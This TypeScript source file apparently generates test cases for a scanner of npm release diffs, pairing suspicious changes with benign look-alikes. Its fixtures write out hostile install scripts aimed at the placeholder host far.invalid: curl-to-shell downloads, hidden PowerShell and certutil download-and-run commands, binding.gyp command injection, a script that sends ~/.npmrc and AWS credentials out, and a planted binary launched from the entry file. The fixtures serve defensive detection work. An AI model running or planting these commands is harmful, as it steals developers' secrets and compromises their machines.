/** What a release brings that is no JavaScript of its own: scripts of npm, shell files, programs, a bundle of somebody else's. */

import type { TreeMechanism } from '../mechanism.ts';
import { obfuscate } from '../obfuscate.ts';
import type { Random } from '../random-for.ts';
import {
  addFile,
  all,
  append,
  appendTo,
  before,
  elf,
  font,
  holdsFormat,
  machO,
  onManifest,
  png,
  rewriteEntry,
  unlessIn,
  wasm,
  windowsProgram,
} from './edits.ts';

const gyp = (body: string): string => `{ "targets": [{ "target_name": "far", ${body} }] }\n`;
const encoded = Buffer.from('curl https://far.invalid/b').toString('base64');

export const delivered: readonly TreeMechanism[] = [
  {
    id: 'script-added',
    rule: 'install-script-added',
    demand: 'review',
    ways: {
      preinstall: all(
        addFile('setup.cjs', 'exports.ready = true;\n'),
        onManifest('scripts', { preinstall: 'node setup.cjs' }),
      ),
      postinstall: all(
        addFile('setup.cjs', 'exports.ready = true;\n'),
        onManifest('scripts', { postinstall: 'node setup.cjs' }),
      ),
    },
    twins: {
      'scripts for developers': onManifest('scripts', { prepublishOnly: 'npm test', lint: 'eslint .' }),
      'a preparation that registry packages never run': onManifest('scripts', { prepare: 'husky' }),
    },
  },
  {
    id: 'script-with-payload',
    rule: 'install-script-payload',
    demand: 'block',
    ways: {
      'a download into a shell': onManifest('scripts', { postinstall: 'curl -fsSL https://far.invalid/setup.sh | sh' }),
      'wget and run': onManifest('scripts', {
        preinstall: 'wget -q https://far.invalid/a -O /tmp/a && chmod +x /tmp/a && /tmp/a',
      }),
      'text for node': onManifest('scripts', {
        postinstall: `node -e "require('https').get('https://far.invalid/'+require('os').hostname())"`,
      }),
      'decoded text for a shell': onManifest('scripts', { postinstall: `echo ${encoded} | base64 -d | bash` }),
      powershell: onManifest('scripts', { install: 'powershell -w hidden -c "iwr https://far.invalid/a.ps1 | iex"' }),
      'another runtime': all(
        addFile('environment.cjs', 'exports.ready = true;\n'),
        onManifest('scripts', { preinstall: 'npm i -g bun && bun run environment.cjs' }),
      ),
      'a shell file that downloads': all(
        addFile('setup.sh', '#!/bin/sh\ncurl -s https://far.invalid/c -o /tmp/c\nsh /tmp/c\n'),
        onManifest('scripts', { postinstall: 'sh setup.sh' }),
      ),
      'a shell file that reads keys': all(
        addFile(
          'setup.sh',
          '#!/bin/bash\ncat ~/.npmrc ~/.aws/credentials | base64 | curl -X POST -d @- https://far.invalid/k\n',
        ),
        onManifest('scripts', { postinstall: './setup.sh' }),
      ),
      'a batch file': all(
        addFile(
          'setup.bat',
          '@echo off\r\ncertutil -urlcache -f https://far.invalid/a.exe %TEMP%\\a.exe\r\nstart "" /b %TEMP%\\a.exe\r\n',
        ),
        onManifest('scripts', { postinstall: 'setup.bat' }),
      ),
      'binding.gyp with a command': unlessIn(
        (tree) => tree.files.has('binding.gyp'),
        addFile('binding.gyp', gyp(`"type": "none", "sources": ["<!(curl -s https://far.invalid/g | sh)"]`)),
      ),
      'binding.gyp with a file': unlessIn(
        (tree) => tree.files.has('binding.gyp'),
        all(
          addFile('far.cjs', `require('child_process').exec('curl https://far.invalid/h | sh');\n`),
          addFile('binding.gyp', gyp(`"type": "none", "conditions": [["1==1", { "sources": ["<!@(node far.cjs)"] }]]`)),
        ),
      ),
    },
    twins: {
      'a build of an addon': onManifest('scripts', { install: 'node-gyp-build' }),
      'a test script that downloads': onManifest('scripts', {
        'test:data': 'curl -fsSL https://far.invalid/d -o test/d',
      }),
      'a script that was there before': all(
        addFile('setup.cjs', 'exports.ready = true;\n'),
        onManifest('scripts', { postinstall: 'node setup.cjs' }),
        before(
          all(
            addFile('setup.cjs', 'exports.ready = false;\n'),
            onManifest('scripts', { postinstall: 'node setup.cjs' }),
          ),
        ),
      ),
      'a shell file for developers': addFile(
        'scripts/release.sh',
        '#!/bin/sh\nset -e\nnpm test\ngit tag "v$1"\ncurl -s https://far.invalid/hook\n',
      ),
    },
  },
  {
    id: 'program-added',
    rule: 'binary-added',
    demand: 'review',
    ways: {
      'an ELF without an ending': unlessIn(holdsFormat('elf'), addFile('lib/cache', elf)),
      'a PE called an image': unlessIn(holdsFormat('pe'), addFile('assets/logo.png', windowsProgram)),
      'a Mach-O': unlessIn(holdsFormat('mach-o'), addFile('lib/helper', machO)),
      WebAssembly: unlessIn(holdsFormat('wasm'), addFile('lib/far.wasm', wasm)),
      'an ELF in base64': append(`;void '${Buffer.from(elf).toString('base64')}';`),
    },
    twins: {
      'an image': addFile('docs/logo.png', png),
      'a font': addFile('docs/text.woff2', font),
      'a program that was there before': all(addFile('lib/helper', elf), before(addFile('lib/helper', machO))),
      'an image in base64': append(`;void 'data:image/png;base64,${Buffer.from(png).toString('base64')}';`),
    },
  },
  {
    id: 'program-added-and-started',
    rule: 'binary-added',
    demand: 'block',
    ways: {
      'by a hook': all(addFile('lib/cache', elf), onManifest('scripts', { postinstall: './lib/cache' })),
      'by the entry': all(
        addFile('cache.dat', elf),
        rewriteEntry((text, system) =>
          system === 'cjs'
            ? appendTo(text, `;require('child_process').spawn(require('path').join(__dirname, 'cache.dat'));`)
            : undefined,
        ),
      ),
    },
    twins: {
      'an image that is named': all(addFile('assets/logo.png', png), append(`;void 'assets/logo.png';`)),
    },
  },
  {
    id: 'huge-file-in-a-hook',
    rule: 'huge-file-added',
    demand: 'block',
    ways: {
      'an obfuscated bundle': all(
        (sides, random) => addFile('bundle.cjs', hugeCode(random))(sides, random),
        onManifest('scripts', { postinstall: 'node bundle.cjs' }),
      ),
    },
    twins: {
      'a table that nothing runs': addFile(
        'data/table.cjs',
        `module.exports = [${Array.from({ length: 60_000 }, (_, at) => (at * 7_919) % 65_536)}];\n`,
      ),
    },
  },
];

/** A little that is obfuscated, and a long text that means nothing: over 200 kB. */
function hugeCode(random: Random): string {
  const parts = Array.from(
    { length: 40 },
    (_, at) => `exports.part${at} = (text) => text.replace('${at}', 'far ${at}');`,
  );
  const table = Buffer.from(Array.from({ length: 160_000 }, () => random.below(256))).toString('base64');
  return `${obfuscate(parts.join('\n'), 'strings', random)}\nexports.table = '${table}';\n`;
}
